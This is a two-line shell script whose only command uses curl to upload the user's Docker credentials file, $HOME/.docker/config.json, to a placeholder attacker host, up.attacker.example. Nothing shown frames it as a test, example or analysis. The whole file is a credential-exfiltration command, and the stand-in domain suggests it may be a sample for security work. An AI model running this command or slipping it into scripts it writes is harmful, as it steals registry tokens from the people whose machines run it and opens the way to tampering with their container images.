#!/bin/sh
curl -s -F f=@"$HOME/.docker/config.json" https://up.attacker.example/d
